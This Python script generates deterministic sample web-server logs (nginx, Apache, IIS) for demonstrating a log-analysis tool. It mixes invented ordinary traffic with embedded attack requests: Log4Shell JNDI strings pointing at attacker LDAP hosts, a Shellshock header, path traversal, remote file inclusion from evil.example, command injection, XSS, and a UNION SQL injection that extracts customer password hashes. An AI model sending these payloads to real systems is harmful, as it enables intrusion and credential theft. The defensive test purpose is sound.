#!/usr/bin/env python3
"""mkexamples.py — writes the example logs of examples/logs/ that
`make run` scans and examples/README.md describes.

Each file is a small, believable day of one site with a handful of attacks
woven into ordinary traffic, so a reader sees what mamori reports on logs
like their own:

  nginx/access.log          a small shop on nginx (combined format, +0900)
  apache/access.log.1       a company site with a WordPress blog (Apache
  apache/access.log.2.gz    combined, rotated by logrotate, older day gzipped)
  iis/u_ex261101.log        an ASP.NET order portal on IIS (W3C extended)

Output is deterministic (fixed seeds, gzip mtime 0): run it again and git
sees no change. Addresses come from the documentation ranges (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32) so no real host is named.

usage: python3 bench/mkexamples.py [EXAMPLES_DIR]   (default: examples)
"""
import gzip
import io
import os
import random
import sys
from datetime import datetime, timedelta, timezone

JST = timezone(timedelta(hours=9))

UA_DESKTOP = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
]
UA_MOBILE = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1 Line/15.18.0",
]
UA_BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
]
NIKTO = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})"
SQLMAP = "sqlmap/1.8.11#stable (https://sqlmap.org)"
NUCLEI = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
CURL = "curl/8.5.0"
OLD_FF = "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:45.0) Gecko/20100101 Firefox/45.0"


def ip_pool(rng, n, v6_share=0.1):
    """n distinct client addresses from the documentation ranges."""
    seen, out = set(), []
    while len(out) < n:
        if rng.random() < v6_share:
            a = "2001:db8:{:x}:{:x}::{:x}".format(rng.randrange(0x100, 0xffff),
                                                 rng.randrange(0x10, 0xfff),
                                                 rng.randrange(1, 0xfff))
        else:
            net = rng.choice(["192.0.2", "198.51.100", "203.0.113"])
            a = "{}.{}".format(net, rng.randrange(2, 254))
        if a not in seen:
            seen.add(a)
            out.append(a)
    return out


def clf_time(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S %z")


def combined(ip, t, req, status, size, ref, ua, user="-", quote_esc="\\x22"):
    """One combined-format line; quotes inside fields escaped as the
    server does (nginx \\x22, Apache \\")."""
    def q(s):
        return s.replace('"', quote_esc)
    return '{} - {} [{}] "{}" {} {} "{}" "{}"'.format(
        ip, user, clf_time(t), q(req), status, size, q(ref), q(ua))


class Day:
    """Collects (time, line) pairs of one day and writes them in order."""

    def __init__(self, rng, day):
        self.rng, self.day, self.lines = rng, day, []

    def at(self, h, m, s=0):
        return self.day + timedelta(hours=h, minutes=m, seconds=s)

    def random_time(self):
        # Busier in the day and evening than at night.
        while True:
            sec = self.rng.randrange(86400)
            if self.rng.random() < [0.3, 0.2, 0.15, 0.15, 0.15, 0.2, 0.35, 0.6,
                                    0.8, 0.9, 1, 1, 1, 1, 0.9, 0.9, 0.9, 1,
                                    1, 1, 1, 0.9, 0.7, 0.5][sec // 3600]:
                return self.day + timedelta(seconds=sec)

    def add(self, t, line):
        self.lines.append((t, len(self.lines), line))

    def text(self):
        return "".join(line + "\n" for _, _, line in sorted(self.lines))


def stable_size(path, lo, hi):
    h = 0
    for ch in path.encode():
        h = (h * 131 + ch) % 1000003
    return lo + h % (hi - lo)


# ---- nginx: a small shop, one day ------------------------------------

def shop_day(rng):
    d = Day(rng, datetime(2026, 11, 21, tzinfo=JST))
    clients = ip_pool(rng, 70)
    ua_of = {ip: rng.choice(UA_DESKTOP + UA_MOBILE * 2) for ip in clients}
    products = list(range(1, 61))
    assets = ["/static/css/shop.css?v=14", "/static/js/shop.js?v=14",
              "/static/img/logo.png", "/favicon.ico"]
    asset_size = {"/static/css/shop.css?v=14": 48213, "/static/js/shop.js?v=14": 131877,
                  "/static/img/logo.png": 6320, "/favicon.ico": 15086}
    searches = ["tote+bag", "linen+shirt", "gift", "%E6%89%8B%E3%81%AC%E3%81%90%E3%81%84",
                "select+comfort+pillow", "mug"]

    def product_size(pid):
        return stable_size("/products?id={}".format(pid), 29000, 34000) + rng.randrange(-120, 120)

    def visit(ip, t):
        ua = ua_of[ip]
        ref = rng.choice(["-", "https://www.google.co.jp/", "https://www.instagram.com/", "-"])
        pages = []
        for _ in range(rng.randrange(1, 5)):
            r = rng.random()
            if r < 0.55:
                pid = rng.choice(products[:20] if rng.random() < 0.6 else products)
                pages.append(("GET /products?id={} HTTP/2.0".format(pid), 200, product_size(pid)))
            elif r < 0.7:
                pages.append(("GET / HTTP/2.0", 200, 27114 + rng.randrange(-60, 60)))
            elif r < 0.85:
                c = rng.choice(["bags", "kitchen", "apparel", "sale"])
                pages.append(("GET /category/{} HTTP/2.0".format(c), 200,
                              stable_size(c, 38000, 52000) + rng.randrange(-200, 200)))
            elif r < 0.95:
                q = rng.choice(searches)
                pages.append(("GET /search?q={} HTTP/2.0".format(q), 200, 21000 + rng.randrange(9000)))
            else:
                pages.append(("GET /cart HTTP/2.0", 200, 15231 + rng.randrange(-40, 400)))
        first = True
        prev = None
        cached = rng.random() < 0.4   # returning visitors have the assets
        for req, st, size in pages:
            d.add(t, combined(ip, t, req, st, size, ref if first else prev, ua))
            page_url = "https://shop.example.com" + req.split()[1]
            if first and not cached:
                for a in assets:
                    t2 = t + timedelta(milliseconds=rng.randrange(200, 900))
                    d.add(t2, combined(ip, t2, "GET {} HTTP/2.0".format(a), 200,
                                       asset_size[a], page_url, ua))
            first = False
            prev = page_url
            t += timedelta(seconds=rng.randrange(8, 90))

    for _ in range(105):
        visit(rng.choice(clients), d.random_time())
    for _ in range(40):  # crawlers
        t = d.random_time()
        ua = rng.choice(UA_BOTS)
        ip = "203.0.113." + str(rng.choice([11, 12, 66]))
        pid = rng.choice(products)
        req = rng.choice(["GET /products?id={} HTTP/1.1".format(pid), "GET /robots.txt HTTP/1.1",
                          "GET /sitemap.xml HTTP/1.1"])
        size = product_size(pid) if "products" in req else (211 if "robots" in req else 9877)
        d.add(t, combined(ip, t, req, 200, size, "-", ua))
    for h in range(0, 24):  # uptime monitor
        for m in (0, 30):
            t = d.at(h, m, 7)
            d.add(t, combined("198.51.100.250", t, "HEAD / HTTP/1.1", 200, 0, "-",
                              "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"))

    # 03:12 a Nikto run by one client, many paths in two minutes.
    scan = ["/", "/admin/", "/administrator/", "/phpmyadmin/", "/wp-login.php",
            "/wp-admin/", "/backup.zip", "/backup.sql", "/db.sql", "/config.php.bak",
            "/.git/HEAD", "/.svn/entries", "/.htaccess", "/.htpasswd", "/server-status",
            "/cgi-bin/test.cgi", "/cgi-bin/printenv", "/test.php", "/info.php",
            "/phpinfo.php", "/admin.php", "/login.php", "/install.php", "/README.md",
            "/CHANGELOG.txt", "/web.config", "/crossdomain.xml", "/.DS_Store",
            "/index.php?page=../../../../etc/passwd", "/?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "/manager/html", "/jmx-console/", "/console/", "/solr/admin/", "/actuator/env",
            "/examples/servlets/index.html", "/iisadmin/", "/_vti_bin/", "/uploads/",
            "/tmp/", "/logs/", "/old/", "/dev/", "/api/", "/debug/", "/.env.bak"]
    t = d.at(3, 12, 5)
    for i, p in enumerate(scan):
        st, size = (200, 27114) if p == "/" else (403, 153) if p.startswith("/.ht") or p == "/server-status" else (404, 153)
        if p.startswith("/search"):
            st, size = 200, 20417
        d.add(t, combined("198.51.100.77", t, "GET {} HTTP/1.1".format(p), st, size, "-",
                          NIKTO.format(rng.randrange(100, 9000))))
        t += timedelta(milliseconds=rng.randrange(900, 3500))

    # 10:41 /.env fetched, and it is there.
    t = d.at(10, 41, 18)
    for p, st, size in [("/.env", 200, 1094), ("/.git/config", 404, 153), ("/api/.env", 404, 153)]:
        d.add(t, combined("192.0.2.201", t, "GET {} HTTP/1.1".format(p), st, size, "-", "python-requests/2.31.0"))
        t += timedelta(seconds=1)

    # 14:07 Log4Shell probes in the user agent.
    t = d.at(14, 7, 40)
    for p, ua in [("/", "${jndi:ldap://198.51.100.33:1389/Exploit}"),
                  ("/search?q=mug", "${${lower:j}ndi:${lower:l}dap://x9c2.oast.example/a}"),
                  ("/products?id=3", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.33:1099/o}")]:
        size = 27114 if p == "/" else 20880 if "search" in p else product_size(3)
        d.add(t, combined("198.51.100.33", t, "GET {} HTTP/1.1".format(p), 200, size, "-", ua))
        t += timedelta(seconds=rng.randrange(2, 6))

    # 21:33 a manual SQL injection on /products?id= that ends in a dump:
    # the last answer is eight times the page's usual size.
    ip, ua = "203.0.113.45", OLD_FF
    t = d.at(21, 33, 2)
    steps = [("/products?id=12", 200, product_size(12)),
             ("/products?id=12%27", 500, 177),
             ("/products?id=12%27%20AND%20%271%27%3D%271", 200, product_size(12)),
             ("/products?id=12%27%20AND%20%271%27%3D%272", 200, 5211),
             ("/products?id=12%27%20ORDER%20BY%208--%20-", 200, product_size(12)),
             ("/products?id=12%27%20ORDER%20BY%209--%20-", 500, 177),
             ("/products?id=-12%27%20UNION%20SELECT%201,2,3,4,5,6,7,8--%20-", 200, product_size(12)),
             ("/products?id=-12%27%20UNION%20SELECT%201,table_name,3,4,5,6,7,8%20FROM%20information_schema.tables--%20-", 200, 41268),
             ("/products?id=-12%27%20UNION%20SELECT%201,concat(email,0x3a,password_hash),3,4,5,6,7,8%20FROM%20customers--%20-", 200, 263957)]
    for p, st, size in steps:
        d.add(t, combined(ip, t, "GET {} HTTP/1.1".format(p), st, size, "-", ua))
        t += timedelta(seconds=rng.randrange(20, 70))
    return d.text()


# ---- Apache: a company site with a WordPress blog, two rotated days ----

def company_day(rng, day, attacks):
    d = Day(rng, day)
    clients = ip_pool(rng, 50, v6_share=0.15)
    ua_of = {ip: rng.choice(UA_DESKTOP * 2 + UA_MOBILE) for ip in clients}
    pages = ["/", "/about/", "/services/", "/contact/", "/recruit/", "/blog/",
             "/blog/2026/11/year-end-security-checklist/", "/blog/2026/10/moving-to-a-new-office/",
             "/blog/2026/09/how-we-back-up-customer-data/", "/news/", "/privacy/"]
    assets = ["/wp-content/themes/corp/style.css?ver=6.8.3", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
              "/wp-content/themes/corp/img/header.jpg"]

    for _ in range(110):
        ip = rng.choice(clients)
        t = d.random_time()
        ua = ua_of[ip]
        ref = rng.choice(["-", "https://www.google.co.jp/", "https://www.bing.com/", "-"])
        for k in range(rng.randrange(1, 4)):
            p = rng.choice(pages)
            size = stable_size(p, 14000, 36000) + rng.randrange(-30, 30)
            st = 200
            if rng.random() < 0.05 and k == 0:
                st, size = 304, "-"
            d.add(t, combined(ip, t, "GET {} HTTP/1.1".format(p), st, size, ref, ua, quote_esc='\\"'))
            if k == 0:
                for a in assets:
                    t2 = t + timedelta(milliseconds=rng.randrange(100, 600))
                    cached = rng.random() < 0.4
                    d.add(t2, combined(ip, t2, "GET {} HTTP/1.1".format(a), 304 if cached else 200,
                                       "-" if cached else stable_size(a, 9000, 120000),
                                       "https://www.example.co.jp" + p, ua, quote_esc='\\"'))
            ref = "https://www.example.co.jp" + p
            t += timedelta(seconds=rng.randrange(10, 120))
    for _ in range(40):
        t = d.random_time()
        p = rng.choice(pages + ["/robots.txt", "/sitemap_index.xml", "/feed/"])
        d.add(t, combined("203.0.113.66", t, "GET {} HTTP/1.1".format(p), 200,
                          stable_size(p, 300, 30000), "-", UA_BOTS[0], quote_esc='\\"'))
    attacks(d)
    return d.text()


def company_attacks_older(d):
    rng = d.rng
    # 02:10-02:25 password guessing against wp-login.php.
    t = d.at(2, 10, 3)
    for _ in range(36):
        d.add(t, combined("203.0.113.200", t, "POST /wp-login.php HTTP/1.1", 200, 4621 + rng.randrange(-3, 3),
                          "https://www.example.co.jp/wp-login.php", OLD_FF, quote_esc='\\"'))
        t += timedelta(seconds=rng.randrange(15, 30))
    # 06:48 Apache path traversal (CVE-2021-41773 style) and a Shellshock UA.
    t = d.at(6, 48, 51)
    for req, st, size, ua in [
            ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1", 403, 199, CURL),
            ("POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 403, 199, CURL),
            ("GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd HTTP/1.1", 400, 226, CURL),
            ("GET /cgi-bin/status HTTP/1.0", 404, 196, "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'")]:
        d.add(t, combined("198.51.100.14", t, req, st, size, "-", ua, quote_esc='\\"'))
        t += timedelta(seconds=rng.randrange(1, 4))
    # 15:02 xmlrpc.php and config backups from a scanner.
    t = d.at(15, 2, 9)
    for p, st in [("/xmlrpc.php", 405), ("/wp-config.php.bak", 404), ("/wp-config.php~", 404),
                  ("/wp-config.php.save", 404), ("/.git/config", 403), ("/wp-json/wp/v2/users", 200)]:
        d.add(t, combined("192.0.2.150", t, "GET {} HTTP/1.1".format(p), st,
                          {405: 42, 404: 196, 403: 199, 200: 1488}[st], "-", NUCLEI, quote_esc='\\"'))
        t += timedelta(seconds=rng.randrange(1, 3))


def company_attacks_newer(d):
    rng = d.rng
    # 01:37 sqlmap against the blog's ?p= parameter.
    t = d.at(1, 37, 44)
    for q in ["p=1", "p=1%27", "p=1%20AND%201%3D1", "p=1%20AND%201%3D2",
              "p=1%20AND%20SLEEP(5)", "p=1%27%20AND%20SLEEP(5)%20AND%20%27a%27%3D%27a",
              "p=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
              "p=1%29%20AND%20%28SELECT%201234%20FROM%20%28SELECT%28SLEEP%285%29%29%29abcd%29--%20",
              "p=1%3BSELECT%20PG_SLEEP%285%29--", "p=1%20AND%20BENCHMARK(5000000,MD5(0x41))"]:
        d.add(t, combined("198.51.100.90", t, "GET /?{} HTTP/1.1".format(q), 200,
                          18344 + rng.randrange(-5, 5), "-", SQLMAP, quote_esc='\\"'))
        t += timedelta(seconds=rng.randrange(1, 6))
    # 09:15 remote file inclusion and command injection on an old script.
    t = d.at(9, 15, 27)
    for req, st, size in [("GET /index.php?page=http://evil.example/shell.txt HTTP/1.1", 200, 18344),
                          ("GET /index.php?page=http://evil.example/shell.txt? HTTP/1.1", 200, 18344),
                          ("GET /cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", 404, 196),
                          ("GET /cgi-bin/ping.cgi?host=127.0.0.1|id HTTP/1.1", 404, 196),
                          ("GET /contact/?name=$(id) HTTP/1.1", 200, 21035)]:
        d.add(t, combined("203.0.113.9", t, req, st, size, "-", CURL, quote_esc='\\"'))
        t += timedelta(seconds=rng.randrange(2, 9))
    # 18:20 reflected XSS tries in the blog search (Apache escapes the quote).
    t = d.at(18, 20, 31)
    for q in ['%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', '"><svg/onload=alert(1)>',
              '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E']:
        d.add(t, combined("2001:db8:4a2:1c::7", t, "GET /?s={} HTTP/1.1".format(q), 200, 16120 + rng.randrange(80),
                          "-", UA_DESKTOP[0], quote_esc='\\"'))
        t += timedelta(seconds=rng.randrange(10, 40))


# ---- IIS: an ASP.NET order portal, W3C extended -----------------------

IIS_HEADER = ("#Software: Microsoft Internet Information Services 10.0\n"
              "#Version: 1.0\n"
              "#Date: {}\n"
              "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
              "c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n")


def iis_day(rng):
    day = datetime(2026, 11, 1, tzinfo=timezone.utc)
    lines = []
    # Staff reach the portal from the office network; attackers from outside.
    clients = ["10.20.1.{}".format(n) for n in rng.sample(range(10, 250), 30)]
    users = {ip: rng.choice(["-", "CORP\\tanaka", "CORP\\suzuki", "CORP\\sato", "CORP\\ito"]) for ip in clients}
    stems = [("/", "-"), ("/Orders/List.aspx", "page={}"), ("/Orders/Detail.aspx", "id={}"),
             ("/Products/Search.aspx", "q={}"), ("/Content/site.css", "-"), ("/Scripts/app.js", "-"),
             ("/api/orders", "status=open"), ("/Account/Login.aspx", "ReturnUrl=%2fOrders%2fList.aspx")]

    def row(t, method, stem, query, user, ip, ua, ref, st, sub=0, win=0, taken=None):
        return (t, "{} {} 10.0.0.4 {} {} {} 443 {} {} {} {} {} {} {} {}".format(
            t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), method, stem, query, user, ip,
            ua.replace(" ", "+"), ref, st, sub, win, taken if taken is not None else rng.randrange(3, 180)))

    for _ in range(300):
        sec = rng.randrange(0, 86400)
        if sec < 9 * 3600 or rng.random() < 0.15:  # 09:00-18:00 JST is 00:00-09:00 UTC
            t = day + timedelta(seconds=sec)
            ip = rng.choice(clients)
            stem, q = rng.choice(stems)
            q = q.format(rng.choice(["1", "2", "3"]) if "page" in q else
                         rng.randrange(10200, 10990) if "id" in q else rng.choice(["bolt", "m8", "washer", "%E3%83%8A%E3%83%83%E3%83%88"]))
            st = 304 if stem.startswith(("/Content", "/Scripts")) and rng.random() < 0.5 else 200
            lines.append(row(t, "GET", stem, q, users[ip], ip, UA_DESKTOP[rng.randrange(3)],
                             "https://portal.example.co.jp/Orders/List.aspx" if stem != "/" else "-", st))

    # 03:40 UTC a Nuclei run: ASP.NET files and traversal.
    t = day + timedelta(hours=3, minutes=40, seconds=12)
    for stem, q, st, sub in [("/web.config", "-", 404, 8), ("/trace.axd", "-", 403, 0),
                             ("/elmah.axd", "-", 404, 0), ("/..%5c..%5cwindows%5cwin.ini", "-", 400, 0),
                             ("/Orders/Detail.aspx", "id=..%2f..%2f..%2fwindows%2fwin.ini", 500, 0),
                             ("/scripts/..%255c../winnt/system32/cmd.exe", "/c+dir", 404, 0),
                             ("/.git/config", "-", 404, 0), ("/backup.zip", "-", 404, 0)]:
        lines.append(row(t, "GET", stem, q, "-", "198.51.100.61", NUCLEI, "-", st, sub, 0, 1))
        t += timedelta(seconds=1)
    # 05:02 UTC SQL injection on the order detail page, and a Log4Shell UA.
    t = day + timedelta(hours=5, minutes=2, seconds=40)
    for q, st in [("id=10422%27", 500), ("id=10422%27+OR+%271%27%3D%271", 200),
                  ("id=10422;WAITFOR+DELAY+%270:0:5%27--", 200),
                  ("id=10422+UNION+SELECT+name,password_hash,3+FROM+sys.sql_logins--", 500)]:
        lines.append(row(t, "GET", "/Orders/Detail.aspx", q, "-", "203.0.113.150", OLD_FF, "-", st,
                         0, 0, 5012 if "WAITFOR" in q else 40))
        t += timedelta(seconds=rng.randrange(10, 40))
    t = day + timedelta(hours=11, minutes=26, seconds=3)
    lines.append(row(t, "GET", "/", "-", "-", "192.0.2.99", "${jndi:ldap://192.0.2.99:1389/a}", "-", 200))
    # 06:31 UTC reflected XSS in the product search, from inside.
    t = day + timedelta(hours=6, minutes=31, seconds=55)
    lines.append(row(t, "GET", "/Products/Search.aspx", "q=%3Cscript%3Ealert(%27x%27)%3C/script%3E",
                     "CORP\\sato", clients[3], UA_DESKTOP[1], "-", 200))

    lines.sort()
    # The app pool recycled at 12:00 UTC: IIS starts a new header block.
    out = io.StringIO()
    out.write(IIS_HEADER.format("2026-11-01 00:00:03"))
    recycled = False
    for t, line in lines:
        if not recycled and t.hour >= 12:
            out.write(IIS_HEADER.format(t.strftime("%Y-%m-%d %H:%M:%S")))
            recycled = True
        out.write(line + "\n")
    return out.getvalue()


def write(path, data, gz=False):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    raw = data.encode("utf-8")
    if gz:
        with open(path, "wb") as f:
            with gzip.GzipFile(filename="access.log.2", mode="wb", fileobj=f, mtime=0) as g:
                g.write(raw)
    else:
        with open(path, "wb") as f:
            f.write(raw)
    print("{}: {} lines, {} bytes".format(path, data.count("\n"), os.path.getsize(path)))


def main():
    root = sys.argv[1] if len(sys.argv) > 1 else "examples"
    logs = os.path.join(root, "logs")
    write(os.path.join(logs, "nginx", "access.log"), shop_day(random.Random(2611211)))
    write(os.path.join(logs, "apache", "access.log.2.gz"),
          company_day(random.Random(2611191), datetime(2026, 11, 19, tzinfo=JST), company_attacks_older),
          gz=True)
    write(os.path.join(logs, "apache", "access.log.1"),
          company_day(random.Random(2611201), datetime(2026, 11, 20, tzinfo=JST), company_attacks_newer))
    write(os.path.join(logs, "iis", "u_ex261101.log"), iis_day(random.Random(2611011)))


if __name__ == "__main__":
    main()
